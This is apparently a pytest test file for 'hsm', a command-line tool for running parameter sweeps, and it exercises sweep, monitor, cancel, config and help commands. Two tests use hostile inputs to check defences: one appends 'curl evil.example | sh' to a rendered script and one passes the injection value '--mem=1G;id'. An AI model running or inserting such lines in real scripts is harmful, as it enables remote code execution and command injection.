"""Every command's happy path on the local backend, run as a subprocess."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli.conftest import REPO, Hsm, tree

FAST = ("--poll-interval", "0.5")
STATES = {"queued", "running", "completed", "failed", "cancelled", "unknown"}


def _task_keys(record: dict[str, object]) -> set[str]:
    return set(record)


def test_example_sweep_runs_to_completion_with_json(hsm: Hsm) -> None:
    run = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-id",
        "ex",
        "--wait",
        "--json",
        *FAST,
    )
    data = run.json()
    assert data["sweep_id"] == "ex" and data["scheduler"] == "local"
    assert data["mode"] == "array" and data["tasks"] == 9
    assert data["sweep_dir"] == "sweeps/ex"
    assert [j["key"] for j in data["jobs"]] == ["array_000"]
    assert data["submitted"] == ["array_000"] and data["recovered"] == []
    status = data["status"]
    assert status["state"] == "completed" and status["stale"] is False
    assert status["counts"] == {
        "queued": 0,
        "running": 0,
        "completed": 9,
        "failed": 0,
        "cancelled": 0,
        "unknown": 0,
    }
    first = status["tasks"][0]
    assert _task_keys(first) == {
        "task",
        "params",
        "job_id",
        "state",
        "raw",
        "exit_code",
        "signal",
        "reason",
        "elapsed",
        "node",
        "max_mem",
        "log",
        "attempts",
    }
    # The local backend times each task from its start to its reaping, on this machine;
    # it measures no memory.
    host = subprocess.run(["hostname", "-s"], capture_output=True, text=True).stdout.strip()
    for task in status["tasks"]:
        assert task["elapsed"] > 0 and task["node"] == host and task["max_mem"] is None
    assert first["params"] == {"lr": 0.1, "model": "mlp", "epochs": 2, "batch": 16}
    assert status["tasks"][-1]["params"] == {"lr": 0.5, "model": "linear", "epochs": 1, "batch": 8}
    sweep = hsm.cwd / "sweeps" / "ex"
    # Every task wrote its metrics into its own task directory ($HSM_TASK_DIR).
    assert len(list((sweep / "tasks").glob("*/metrics.json"))) == 9
    assert {"manifest.json", "journal.jsonl", "scripts", "logs"} <= set(tree(sweep))


def test_shorthand_without_a_sweep_file_and_human_output(hsm: Hsm) -> None:
    run = hsm.ok(
        "sweep",
        "run",
        "--script",
        "examples/train.py",
        "--python",
        sys.executable,
        "--system",
        "local",
        "lr=0.1,0.01",
        "model=a,'b c'",
        "epochs=range(1,3)",
        "--sweep-id",
        "short",
        "--mode",
        "individual",
        "--wait",
        *FAST,
    )
    assert "ran sweep short: 8 tasks, 8 job(s) submitted to local" in run.out
    assert "completed 8" in run.out
    manifest = json.loads((hsm.cwd / "sweeps/short/manifest.json").read_text())
    params = [t["params"] for t in manifest["tasks"]]
    assert params[0] == {"lr": 0.1, "model": "a", "epochs": 1}
    assert params[3] == {"lr": 0.1, "model": "b c", "epochs": 2}
    assert {p["lr"] for p in params} == {0.1, 0.01}


def test_command_line_axis_replaces_the_files_grid_axis(hsm: Hsm) -> None:
    run = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "lr=0.3",
        "--dry-run",
        "--json",
        "--sweep-id",
        "x",
    )
    data = run.json()
    assert data["tasks"] == 5  # lr has one value now: 1 x 2 x 2 + 1 combination
    assert '"lr=0.3"' in data["jobs"][0]["script"]


def test_dry_run_writes_and_submits_nothing(hsm: Hsm) -> None:
    before = tree(hsm.cwd)
    run = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--mode",
        "local",
        "--sweep-id",
        "dry",
        "--dry-run",
    )
    assert "#!/bin/bash" in run.out and "sweeps/dry/scripts/array_000.sh" in run.out
    assert "nothing is written or submitted" in run.out
    assert tree(hsm.cwd) == before
    assert not hsm.spool.exists()
    as_json = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--mode",
        "local",
        "--sweep-id",
        "dry",
        "--dry-run",
        "--json",
        "--mode",
        "individual",
        "--system",
        "local",
    ).json()
    assert as_json["dry_run"] is True and len(as_json["jobs"]) == 9
    job = as_json["jobs"][0]
    assert set(job) == {
        "key",
        "job_name",
        "script_file",
        "tasks",
        "indices",
        "submit_argv",
        "script",
    }
    assert tree(hsm.cwd) == before


def test_monitor_shows_failed_task_log_and_resubmit_reruns_it(hsm: Hsm) -> None:
    run = hsm(
        "sweep",
        "run",
        "--script",
        "examples/train.py",
        "--python",
        sys.executable,
        "--system",
        "local",
        "--sweep-id",
        "mix",
        "lr=0.1,oops",
        "--wait",
        *FAST,
    )
    assert run.code == 5, str(run)
    assert "Traceback" not in run.err
    assert "failed task 1" in run.out and "could not convert string to float" in run.out
    monitor = hsm.ok("monitor", "--mode", "hpc", "--sweep-id", "mix", "--json").json()
    assert monitor["counts"]["failed"] == 1 and monitor["counts"]["completed"] == 1
    failed = monitor["tasks"][1]
    assert failed["state"] == "failed" and failed["exit_code"] == 1
    assert Path(failed["log"]).is_file()
    assert set(monitor["counts"]) == STATES
    text = hsm.ok("monitor", "--sweep-id", "mix").out
    assert "TASK" in text and "lr=oops" in text and "| ValueError" in text
    # the program is fixed (an edit to the script is an input, not a rendered file)
    train = hsm.cwd / "examples" / "train.py"
    train.write_text(train.read_text().replace('lr = float(params.get("lr", "0.1"))', "lr = 0.2"))
    again = hsm("sweep", "resubmit", "--sweep-id", "mix", "--failed", "--wait", *FAST, "--json")
    assert again.code == 0, str(again)
    data = again.json()
    assert data["resubmitted_tasks"] == [1]
    assert data["status"]["counts"]["completed"] == 2


def test_running_the_same_command_again_submits_nothing_new(hsm: Hsm) -> None:
    args = (
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-id",
        "twice",
        "--json",
    )
    first = hsm.ok(*args).json()
    second = hsm.ok(*args).json()
    assert first["submitted"] == ["array_000"]
    assert second["submitted"] == [] and second["jobs"] == first["jobs"]
    assert len(hsm.spool_jobs()) == 1


def test_render_then_submit_exactly_those_files(hsm: Hsm) -> None:
    rendered = hsm.ok(
        "sweep",
        "render",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-dir",
        "audit/one",
        "--json",
    ).json()
    assert rendered["jobs"][0]["job_id"] is None and not hsm.spool_jobs()
    script = hsm.cwd / rendered["jobs"][0]["script"]
    assert script.is_file()
    submitted = hsm.ok("sweep", "submit", "audit/one", "--wait", *FAST, "--json").json()
    assert submitted["status"]["counts"]["completed"] == 9
    assert submitted["jobs"][0]["job_id"] is not None


def test_tampered_rendered_script_is_refused_naming_the_file(hsm: Hsm) -> None:
    hsm.ok(
        "sweep",
        "render",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-id",
        "tamper",
    )
    script = hsm.cwd / "sweeps/tamper/scripts/array_000.sh"
    script.write_text(script.read_text() + "curl evil.example | sh\n")
    run = hsm("sweep", "submit", "sweeps/tamper")
    assert run.code == 4, str(run)
    assert "array_000.sh" in run.err and "changed" in run.err
    assert not hsm.spool_jobs()


def test_cancel_a_sweep_and_cancel_by_job_id(hsm: Hsm) -> None:
    slow = (
        "sweep",
        "run",
        "--script",
        "examples/train.py",
        "--python",
        sys.executable,
        "--system",
        "local",
        "epochs=400",
        "--json",
    )
    first = hsm.ok(*slow, "--sweep-id", "c1", "lr=0.001,0.002").json()
    cancelled = hsm.ok("cancel", "--sweep-id", "c1", "--json").json()
    assert cancelled["cancelled"] == [first["jobs"][0]["job_id"]]
    # The list reads only the status cache: the cancel must have refreshed it.
    listed = {e["sweep_dir"]: e for e in hsm.ok("sweep", "list", "--json").json()["sweeps"]}
    assert listed["sweeps/c1"]["counts"]["cancelled"] == 2, listed
    status = hsm.ok("monitor", "--sweep-id", "c1", "--json").json()
    assert status["counts"]["cancelled"] == 2, status
    second = hsm.ok(*slow, "--sweep-id", "c2", "--mode", "individual").json()
    ids = [j["job_id"] for j in second["jobs"]]
    by_id = hsm.ok("cancel", *ids, "--system", "local")
    assert f"cancelled 1 job(s): {ids[0]}" in by_id.out
    assert hsm.ok("monitor", "--sweep-id", "c2", "--json").json()["state"] == "cancelled"


def test_queue_lists_running_jobs(hsm: Hsm) -> None:
    hsm.ok(
        "sweep",
        "run",
        "--script",
        "examples/train.py",
        "--python",
        sys.executable,
        "--system",
        "local",
        "epochs=400",
        "--sweep-id",
        "q",
    )
    data = hsm.ok("queue", "--system", "local", "--json").json()
    assert data["scheduler"] == "local" and data["user"]
    assert data["jobs"] and {j["state"] for j in data["jobs"]} <= {"queued", "running"}
    assert set(data["jobs"][0]) == {
        "job_id",
        "name",
        "state",
        "raw",
        "exit_code",
        "signal",
        "reason",
    }
    assert {j["name"] for j in data["jobs"]} == {"q_array_000"}
    assert "JOB ID" in hsm.ok("queue", "--system", "local").out
    hsm.ok("cancel", "--sweep-id", "q")


def test_config_show_reports_every_source(hsm: Hsm) -> None:
    (hsm.cwd / "hsm_config.yaml").write_text(
        "hpc:\n  default_walltime: '02:00:00'\n  default_resources: mem=1G\n"
        "  slurm:\n    partition: debug\n"
    )
    data = hsm.ok("config", "show", "--json", env={"HSM_HPC_RESOURCES": "mem=2G"}).json()
    settings = {s["setting"]: s for s in data["settings"]}
    assert data["files"] == ["hsm_config.yaml"]
    assert settings["hpc.default_walltime"] == {
        "setting": "hpc.default_walltime",
        "value": "02:00:00",
        "source": "file:hsm_config.yaml",
    }
    assert settings["hpc.default_resources"]["source"] == "env:HSM_HPC_RESOURCES"
    assert settings["hpc.default_resources"]["value"] == "mem=2G"
    assert settings["hpc.system"] == {"setting": "hpc.system", "value": "auto", "source": "default"}
    assert settings["hpc.setup"]["value"] == []
    text = hsm.ok("config", "show").out
    assert "hpc.slurm.partition" in text and "file:hsm_config.yaml" in text
    # hpc.system auto: config show says what it found on this machine, and why.
    assert data["scheduler"]["key"] and data["scheduler"]["reason"]
    assert f"scheduler: {data['scheduler']['key']} (" in text.splitlines()[-1]
    pinned = hsm.ok("config", "show", "--json", env={"HSM_HPC_SYSTEM": "local"}).json()
    assert pinned["scheduler"] == {"key": "local", "reason": "hpc.system is 'local'"}


def test_flag_beats_env_beats_file_in_a_run(hsm: Hsm) -> None:
    config = hsm.cwd / "elsewhere.yaml"
    config.write_text("hpc:\n  default_walltime: '02:00:00'\n  system: slurm\n")
    env = {"HSM_HPC_SYSTEM": "local", "HSM_HPC_WALLTIME": "03:00:00"}
    data = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--hsm-config",
        str(config),
        "--dry-run",
        "--json",
        "--walltime",
        "0:05:00",
        env=env,
    ).json()
    assert data["scheduler"] == "local"  # env beats the file
    assert "300s" in data["jobs"][0]["script"]  # the flag beats both (local: timeout 300s)
    no_flag = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--hsm-config",
        str(config),
        "--dry-run",
        "--json",
        env=env,
    ).json()
    assert "10800s" in no_flag["jobs"][0]["script"]  # env's 3 h beats the file's 2 h


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["sweep"],
        ["sweep", "run"],
        ["sweep", "render"],
        ["sweep", "submit"],
        ["sweep", "resubmit"],
        ["monitor"],
        ["queue"],
        ["cancel"],
        ["config"],
        ["config", "show"],
    ],
)
def test_help_answers_at_every_level(argv: list[str], hsm: Hsm) -> None:
    run = hsm.ok(*argv, "--help")
    assert run.out.startswith("usage: hsm")
    assert "exit codes:" in run.out or argv == ["config"]


def test_top_level_help_lists_exit_codes_and_json(hsm: Hsm) -> None:
    out = hsm.ok("--help").out
    for code in ("0 ", "2 ", "3 ", "4 ", "5 ", "130"):
        assert f"\n  {code}" in out
    assert "--json prints one JSON document" in out


def test_python_dash_m_hsm_is_the_same_program(hsm: Hsm) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "hsm", "--version"],
        cwd=hsm.cwd,
        env=hsm.env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0 and done.stdout.startswith("hsm ")


def test_help_imports_none_of_the_heavy_libraries(hsm: Hsm) -> None:
    code = (
        "import sys\nfrom hsm.cli import main\ntry:\n    main(['--help'])\n"
        "except SystemExit:\n    pass\n"
        "heavy = sorted(m for m in sys.modules if m.split('.')[0] in "
        "{'returns', 'cattrs', 'jinja2', 'yaml', 'attrs', 'hsm.api'})\n"
        "print('HEAVY', heavy, file=sys.stderr)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=REPO,
        env=hsm.env,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "HEAVY []" in done.stderr, done.stderr


@pytest.mark.parametrize(
    ("signum", "code", "said"),
    [(2, 130, "interrupted"), (15, 143, "stopped by SIGTERM"), (1, 129, "stopped by SIGHUP")],
)
def test_ctrl_c_or_sigterm_while_waiting_exits_without_a_traceback(
    hsm: Hsm, signum: int, code: int, said: str
) -> None:
    import time

    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "hsm.cli",
            "sweep",
            "run",
            "--script",
            "examples/train.py",
            "--python",
            sys.executable,
            "--system",
            "local",
            "epochs=400",
            "--sweep-id",
            "int",
            "--wait",
            *FAST,
        ],
        cwd=hsm.cwd,
        env=hsm.env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while not (hsm.cwd / "sweeps/int/journal.jsonl").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(1.0)
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=30)
    assert proc.returncode == code, (out, err)
    assert said in err and "Traceback" not in err
    assert "hsm monitor --sweep-id int" in err  # how to go on
    hsm.ok("cancel", "--sweep-id", "int")


def test_quiet_and_verbose(hsm: Hsm) -> None:
    quiet = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-id",
        "qv",
        "--wait",
        "-q",
        *FAST,
    )
    assert quiet.err == ""
    verbose = hsm.ok(
        "sweep",
        "run",
        "--config",
        "examples/sweep.yaml",
        "--system",
        "local",
        "--sweep-id",
        "qv2",
        "--dry-run",
        "-v",
    )
    assert "scheduler: local" in verbose.err


@pytest.mark.parametrize("value", ["--mem=200M", "-N 1 --mem 200M"])
def test_resources_may_start_with_a_dash(hsm: Hsm, value: str) -> None:
    base = ("--config", "examples/sweep.yaml", "--system", "local", "--resources", value)
    dry = hsm.ok("sweep", "run", *base, "--sweep-id", "dash", "--dry-run", "--json")
    assert dry.json()["dry_run"] is True
    hsm.ok("sweep", "render", *base, "--sweep-id", "dash", "lr=0.5")
    manifest = json.loads((hsm.cwd / "sweeps/dash/manifest.json").read_text())
    assert manifest["settings"]["resources"] == value
    assert {task["params"]["lr"] for task in manifest["tasks"]} == {0.5}  # axes after it
    bad = hsm("sweep", "run", *base[:-1], "--mem=1G;id", "--sweep-id", "bad")
    assert bad.code == 2 and "resource" in bad.err, str(bad)
